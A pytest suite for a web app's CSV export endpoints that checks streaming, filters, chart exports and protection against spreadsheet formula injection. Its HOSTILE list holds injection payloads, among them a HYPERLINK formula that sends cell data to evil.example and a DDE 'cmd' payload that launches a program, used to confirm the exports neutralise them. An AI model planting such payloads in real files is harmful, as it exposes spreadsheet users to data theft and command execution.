"""CSV exports: streamed, complete, filtered, and safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import itertools
from collections.abc import Iterator
from datetime import timedelta
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session, sessionmaker

from domain import Classification, Mention
from storage.analytics import EXPORT_COLUMNS
from tests.web.factories import NOW, classification, mention, store
from web.search import csv_cell, csv_lines

HOSTILE = [
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
]


def parse(body: str) -> list[list[str]]:
    assert body.startswith("\ufeff")  # Excel reads the file as UTF-8
    return list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))


def test_csv_cells_neutralise_formulas_but_keep_numbers() -> None:
    for text in HOSTILE:
        assert csv_cell(text) == "'" + text
    assert csv_cell(-12.5) == -12.5 and csv_cell(0) == 0 and csv_cell(None) is None
    assert csv_cell("plain text") == "plain text" and csv_cell(["a", "=b"]) == "a|=b"
    assert csv_cell(NOW) == "2024-05-10T12:30:00+00:00"


def test_csv_lines_stream_before_the_rows_end() -> None:
    endless: Iterator[list[Any]] = ([i, f"row {i}"] for i in itertools.count())
    pieces = csv_lines(["n", "text"], endless, batch=100)
    first = next(pieces)  # an endless source still yields: rows are never all held at once
    assert first.startswith("\ufeffn,text\r\n0,row 0\r\n") and first.count("\r\n") == 101
    assert next(pieces).startswith("100,row 100\r\n")


@pytest.fixture
def many(sessions: sessionmaker[Session]) -> int:
    """260 Acme mentions (more than an API page), 5 hostile ones among them, and one Rival mention."""
    items: list[tuple[Mention, Classification | None]] = [
        (mention(f"m{i}", at=NOW - timedelta(minutes=i), text=f"refund request {i}"), None)
        for i in range(255)
    ]
    items += [
        (
            mention(
                f"h{i}", at=NOW - timedelta(hours=6, minutes=i), text=text, handle="=cmd", display_name="@x"
            ),
            classification("negative", categories=["billing"]),
        )
        for i, text in enumerate(HOSTILE)
    ]
    items.append((mention("r", brands=("Rival",), text='He said "refund",\nthen left'), None))
    store(sessions, items)
    return len(items)


def test_mention_export_streams_every_match(client: TestClient, many: int) -> None:
    with client.stream("GET", "/api/mentions/export.csv?brand=Acme") as response:
        assert response.status_code == 200
        assert response.headers["content-type"] == "text/csv; charset=utf-8"
        assert response.headers["content-disposition"] == 'attachment; filename="earshot-mentions.csv"'
        assert "content-length" not in response.headers  # streamed, not built whole
        body = "".join(response.iter_text())
    rows = parse(body)
    assert rows[0] == list(EXPORT_COLUMNS)
    assert len(rows) - 1 == 260 == client.get("/api/mentions?brand=Acme").json()["total"]
    # Newest first, as the inbox lists them.
    assert [r[EXPORT_COLUMNS.index("text")] for r in rows[1:3]] == ["refund request 0", "refund request 1"]


def test_mention_export_neutralises_formulas_and_keeps_newlines_and_quotes(
    client: TestClient, many: int
) -> None:
    rows = parse(client.get("/api/mentions/export.csv?sentiment=negative").text)[1:]
    text, author = EXPORT_COLUMNS.index("text"), EXPORT_COLUMNS.index("author")
    assert sorted(r[text] for r in rows) == sorted("'" + t for t in HOSTILE)
    assert {r[author] for r in rows} == {"'=cmd"}
    assert {r[EXPORT_COLUMNS.index("categories")] for r in rows} == {"billing"}
    rival = parse(client.get("/api/mentions/export.csv?q=from:dana%20%22then%20left%22").text)[1:]
    assert [r[text] for r in rival] == ['He said "refund",\nthen left']
    assert rival[0][EXPORT_COLUMNS.index("brands")] == "Rival"


def test_mention_export_takes_the_inbox_filters(client: TestClient, many: int) -> None:
    rows = parse(client.get("/api/mentions/export.csv?q=refund%20-request").text)[1:]
    assert len(rows) == 1
    assert len(parse(client.get("/api/mentions/export.csv?brand=Nobody").text)) == 1  # the header alone


def test_every_chart_exports_what_it_draws(client: TestClient, many: int) -> None:
    body = client.get("/api/analytics?range=24h").json()
    volume = parse(client.get("/api/analytics/volume.csv?range=24h").text)
    assert volume[0] == ["bucket", "brand", "mentions"] and len(volume) - 1 == 25 * 3
    for brand in ("Acme", "Rival", "Zed"):
        assert sum(int(r[2]) for r in volume[1:] if r[1] == brand) == sum(body["volume"][brand])
    summary = parse(client.get("/api/analytics/summary.csv?range=24h").text)
    assert summary[0][:4] == ["brand", "own", "mentions", "previous_mentions"]
    assert [(r[0], int(r[2])) for r in summary[1:]] == [(s["brand"], s["mentions"]) for s in body["summary"]]
    net = parse(client.get("/api/analytics/net-sentiment.csv?range=24h").text)
    assert ["2024-05-10T06:00:00", "Acme", "-100.0"] in net[1:]  # numbers stay numbers, even negative
    for table in ("sentiment", "share-of-voice", "categories", "authors", "terms"):
        response = client.get(f"/api/analytics/{table}.csv?range=24h")
        assert response.status_code == 200 and len(parse(response.text)[0]) >= 3, table
    assert client.get("/api/analytics/nothing.csv").status_code == 422


def test_chart_export_neutralises_hostile_brand_names(client: TestClient, many: int) -> None:
    response = client.get("/api/analytics/volume.csv", params={"range": "24h", "vs": ["=1+2"]})
    assert {r[1] for r in parse(response.text)[1:]} == {"Acme", "'=1+2"}
    assert 'filename="earshot-volume-20240509-20240510.csv"' in response.headers["content-disposition"]
